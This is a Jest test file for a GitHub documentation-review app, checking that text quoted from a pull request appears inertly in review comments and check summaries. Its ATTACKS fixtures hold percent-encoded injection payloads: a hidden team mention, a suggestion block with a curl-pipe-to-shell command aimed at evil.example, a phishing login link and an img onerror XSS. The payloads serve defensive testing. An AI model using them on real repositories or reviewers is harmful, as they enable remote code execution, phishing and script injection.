// Repository text quoted by the app is inert: a pull request whose docs hide
// a team mention, an issue reference, a suggestion block, a phishing link and
// raw HTML in percent-encoded link targets gets comments and a check summary
// that GitHub renders with none of them.
import { describe, test, expect, afterEach, afterAll } from "@jest/globals";
import {
  setup,
  teardown,
  violations,
  pullRequestPayload,
  BASE_SHA,
  HEAD_SHA,
  releaseNock,
  type Harness,
} from "./harness.js";
import type { Files } from "./fake-github.js";
import { injectedStructures } from "../helpers/injected.js";

afterAll(releaseNock);
afterEach(teardown);

const ATTACKS = {
  mention: "See [the guide](guide%0A%0APing%20@octo-org/security-team%20about%20GH-123.md).",
  suggestion:
    "![diagram](img%60%60%60suggestion%0Acurl%20https://evil.example/x%20%7C%20sh%0A%60%60%60.png)",
  anchor:
    "Read [setup](#%60%5BClick%20here%5D(https://evil.example/login)%20%3Cimg%20src=x%20onerror=alert(1)%3E%20%23123%60).",
};

async function open(h: Harness, config: string | null): Promise<void> {
  const base: Files = { "README.md": "# r\n", "g3doc/index.md": "# Index\n\nHello.\n" };
  const head: Files = {
    ...base,
    "g3doc/attack.md": `# Attack\n\n${ATTACKS.mention}\n\n${ATTACKS.suggestion}\n\n${ATTACKS.anchor}\n`,
  };
  h.fake.config = config;
  h.fake.addCommit(BASE_SHA, base);
  h.fake.addCommit(HEAD_SHA, head);
  h.fake.addPull({ number: 2, base: BASE_SHA, head: HEAD_SHA });
  await h.receive("pull_request", pullRequestPayload("opened"));
}

/** Every body the app posted: review bodies, comments, thread replies, check-run titles and summaries. */
function posted(h: Harness): { where: string; body: string; suggestions: number }[] {
  const out: { where: string; body: string; suggestions: number }[] = [];
  for (const r of h.fake.log) {
    const b = r.body;
    if (!b || typeof b !== "object") continue;
    if (typeof b.body === "string")
      out.push({ where: `${r.method} ${r.path}`, body: b.body, suggestions: 0 });
    for (const c of b.comments ?? [])
      out.push({ where: `comment on ${c.path}:${c.line}`, body: c.body, suggestions: 1 });
    if (b.output?.summary) out.push({ where: "summary", body: b.output.summary, suggestions: 0 });
    if (b.output?.title) out.push({ where: "title", body: b.output.title, suggestions: 0 });
    if (typeof b.query === "string" && typeof b.variables?.body === "string")
      out.push({ where: "thread reply", body: b.variables.body, suggestions: 0 });
  }
  return out;
}

const APP_LINKS = [
  "https://github.com/Codertocat/Hello-World/",
  "https://github.com/g3doc-review/g3doc-review/blob/main/docs/rules.md#",
];
/** The fingerprint marker of a comment: one per comment, at its end. */
const APP_HTML = /^<!-- g3doc-review:fp=[0-9a-f]{16} -->$/;
const APP_HEADINGS = [
  "Not shown as review comments",
  "Commented on without their suggested change",
  "Notes",
];

/** Annotations are plain text (GitHub does not render them): no control character but line breaks. */
function annotations(h: Harness): string[] {
  return h.fake.checkRuns.flatMap((r) => r.annotations.map((a: any) => `${a.title}\n${a.message}`));
}

function expectInert(h: Harness): void {
  const bodies = posted(h);
  expect(bodies.length).toBeGreaterThan(0);
  const found = bodies.flatMap(({ where, body, suggestions }) =>
    injectedStructures(body, {
      linkPrefixes: APP_LINKS,
      suggestions,
      headings: APP_HEADINGS,
      html: APP_HTML,
    }).map((x) => `${where}: ${x}`),
  );
  expect(found).toEqual([]);
  // Annotations and titles are plain text: no control character, no terminal escape.
  for (const b of bodies.filter((x) => x.where === "title"))
    // eslint-disable-next-line no-control-regex
    expect(b.body).not.toMatch(/[\u0000-\u001f\u007f]/);
  const notes = annotations(h);
  expect(notes.length).toBeGreaterThan(0);
  // eslint-disable-next-line no-control-regex
  for (const a of notes) expect(a).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
}

describe("quoted repository text is inert", () => {
  test("as review comments: the three attacks are reported, and no comment renders a mention, reference, link, image, HTML or suggestion", async () => {
    const h = await setup();
    await open(h, null);
    expect(violations()).toEqual([]);
    const comments = h.fake.reviews.flatMap((r) => r.comments);
    // Each attack line got its finding (so the test sees the quoted text, not silence).
    expect([...new Set(comments.map((c: any) => c.line))].sort()).toEqual([3, 5, 7]);
    expect(comments.find((c: any) => c.line === 3)!.body).toContain("security-team");
    expect(comments.find((c: any) => c.line === 5)!.body).toContain("curl");
    expect(comments.find((c: any) => c.line === 7)!.body).toContain("evil.example/login");
    expectInert(h);
  });

  test("in the check summary (no comments allowed): the same findings are listed, inert", async () => {
    const h = await setup();
    await open(h, "review:\n  maxComments: 0\n");
    expect(violations()).toEqual([]);
    expect(h.fake.reviews).toHaveLength(0);
    const summary = h.fake.checkRuns[0].output!.summary;
    expect(summary).toContain("security-team");
    expect(summary).toContain("curl");
    expect(summary).toContain("evil.example/login");
    expectInert(h);
  });
});
